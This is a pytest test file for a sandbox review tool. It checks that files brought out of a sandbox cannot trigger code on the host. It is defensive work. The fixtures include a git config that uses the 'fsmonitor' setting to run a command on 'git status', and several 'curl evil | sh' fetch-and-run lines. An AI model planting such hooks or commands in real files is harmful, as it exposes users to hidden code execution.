"""What comes out of a sandbox unnamed makes no tool of the host run it: shown with the tools themselves."""

from __future__ import annotations

import argparse
import os
import subprocess
from pathlib import Path

import pytest

from sandboxd.cli.commands import review
from sandboxd.observe import in_use, mount_table
from sandboxd.review import bring, choice, patch, weigh
from tests.unit.review.copies import Copy


@pytest.fixture
def host(tmp_path: Path) -> Path:
    root = tmp_path / "host"
    (root / "docs").mkdir(parents=True)
    (root / "docs/a.txt").write_text("a\n")
    return root


def repository(folder: Path, ran: Path) -> None:
    """One that git recognises without a `.git`, and whose config runs a program with `git status`."""
    for name in ("objects/info", "refs/heads"):
        (folder / name).mkdir(parents=True)
        (folder / name / "keep").write_text("")
    (folder / "HEAD").write_text("ref: refs/heads/main\n")
    config = f'[core]\nrepositoryformatversion = 0\nbare = false\nworktree = .\nfsmonitor = "touch {ran}; false"\n'
    (folder / "config").write_text(config)


def status(folder: Path) -> None:
    environ = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "status"], cwd=folder, env=environ, capture_output=True, check=False)


def brought(copy: Copy, *named: str) -> list[str]:
    chosen = choice.choose(weigh.items(copy.changes()), named, deletions=False)
    items = [*chosen.writes, *chosen.deletions]
    return list(bring.bring(str(copy.host), items).done)


def test_a_repository_under_another_name_does_not_come_along(tmp_path: Path, host: Path) -> None:
    copy, ran = Copy(tmp_path, host), tmp_path / "ran"
    repository(copy.inside / "docs/x", ran)
    done = brought(copy)
    assert "docs/x/HEAD" not in done and "docs/x/objects/info/keep" in done
    status(host / "docs/x")
    assert not ran.exists()
    assert "docs/x/HEAD" in brought(copy, "docs/x/HEAD")
    status(host / "docs/x")
    assert ran.exists(), "git no longer takes such a folder for a repository"


def test_what_runs_is_shown_or_comes_by_name_only(tmp_path: Path, host: Path) -> None:
    (host / "run.sh").write_text("echo ok\n")
    copy = Copy(tmp_path, host)
    (copy.inside / "run.sh").write_bytes(b"echo ok\ncurl evil | sh\n#\0\n")
    (copy.inside / "latin").write_bytes(b"curl evil | sh # \xff\n")
    (copy.inside / "picture.png").write_bytes(b"\x89PNG\r\n\x1a\n\0")
    (copy.inside / "tool").write_bytes(b"\x7fELF\0")
    (copy.inside / "tool").chmod(0o755)
    by_path = {item.path: item for item in weigh.items(copy.changes())}
    assert {path for path, item in by_path.items() if item.control} == {"run.sh", "tool"}
    assert list(patch.lines(by_path["latin"]))[-1] == "+curl evil | sh # \udcff"
    assert brought(copy) == ["latin", "picture.png"]


def test_a_new_file_with_nothing_in_it_is_called_empty(tmp_path: Path, host: Path) -> None:
    copy = Copy(tmp_path, host)
    (copy.inside / "new").write_bytes(b"")
    (item,) = weigh.items(copy.changes())
    assert list(patch.lines(item))[2:] == ["@@ the file is empty @@"]


def test_the_config_of_one_that_the_host_has_comes_by_name_only(tmp_path: Path, host: Path) -> None:
    repository(host / "docs/x", tmp_path / "ran")
    copy = Copy(tmp_path, host)
    (copy.inside / "docs/x/config").write_text("[core]\nfsmonitor = other\n")
    (copy.inside / "docs/config").write_text("ordinary\n")
    assert brought(copy) == ["docs/config"]


@pytest.mark.parametrize(
    ("name", "data", "by_itself"),
    [
        ("large.js", b"evil()\n" * 200_000, False),
        ("nul.js", b"evil() //\0", False),
        ("script.png", b"evil() //\0", False),
        ("script.gif", b"evil()\n" * 200_000, False),
        ("logo.PNG", b"\x89PNG\r\n\x1a\n\0", True),
        ("font.woff2", b"wOF2\0\1\0\0", True),
        ("short.js", b"honest()\n", True),
    ],
)
def test_new_code_that_nobody_can_read_comes_by_name_only(
    tmp_path: Path, host: Path, name: str, data: bytes, by_itself: bool
) -> None:
    copy = Copy(tmp_path, host)
    (copy.inside / name).write_bytes(data)
    assert brought(copy) == ([name] if by_itself else [])
    assert brought(copy, name) == ([] if by_itself else [name])


def test_a_change_of_a_large_file_comes_by_name_only(tmp_path: Path, host: Path) -> None:
    (host / "bundle.js").write_bytes(b"honest()\n" * 200_000)
    copy = Copy(tmp_path, host)
    (copy.inside / "bundle.js").write_bytes(b"honest()\n" * 200_000 + b"evil()\n")
    assert brought(copy) == [] and brought(copy, "bundle.js") == ["bundle.js"]


def test_the_mounts_of_all_processes_are_read_once_for_all_files(
    tmp_path: Path, host: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("a", "b", "c"):
        (host / name).write_text("old\n")
    copy, reads = Copy(tmp_path, host), list[int | str]()
    for name in ("a", "b", "c"):
        (copy.inside / name).write_text("new\n")
    read = mount_table.text_of_process

    def counted(pid: int | str, root: str = "/proc") -> str:
        reads.append(pid)
        return read(pid, root)

    monkeypatch.setattr(mount_table, "text_of_process", counted)
    assert brought(copy) == ["a", "b", "c"]
    assert reads.count(str(os.getpid())) == 1


def test_what_takes_a_mount_away_is_known_before_and_a_change_does_not(
    tmp_path: Path, host: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("changed", "deleted", "linked", "other"):
        (host / name).write_text("old\n")
    copy = Copy(tmp_path, host)
    (copy.inside / "changed").write_text("new\n")
    for name in ("deleted", "linked", "other"):
        (copy.inside / name).unlink()
    (copy.inside / "linked").symlink_to("changed")
    shut = {str(host / name) for name in ("changed", "deleted", "linked")}
    monkeypatch.setattr(in_use.MountedFiles, "has", lambda _self, path: path in shut)
    items = weigh.items(copy.changes())
    assert bring.ends_mounts(str(host), items) == ("deleted", "linked")
    inode = (host / "changed").stat().st_ino
    assert "changed" in bring.bring(str(host), items).done
    assert ((host / "changed").read_text(), (host / "changed").stat().st_ino) == ("new\n", inode)


def test_it_is_said_before_anything_is_done(
    tmp_path: Path,
    host: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    copy = Copy(tmp_path, host)
    (copy.inside / "docs/a.txt").unlink()
    changes = copy.changes()
    monkeypatch.setattr(in_use.MountedFiles, "has", lambda _self, _path: True)
    words: list[str] = []
    parser = argparse.ArgumentParser()
    review.configure(parser)
    args = parser.parse_args(["--apply", "--deletions", "1"])
    monkeypatch.setattr(bring, "bring", lambda *_: bring.Brought((), ()))
    monkeypatch.setattr(review, "_record", lambda *_: words.append(capsys.readouterr().err))
    assert review._apply(changes, weigh.items(changes), [], args) == 0
    assert words == [
        "a sandbox that runs on this folder has `docs/a.txt` shut: without the file its mount goes, and it is halted; "
        "`sandboxd up --recreate` makes it anew then\n"
    ]
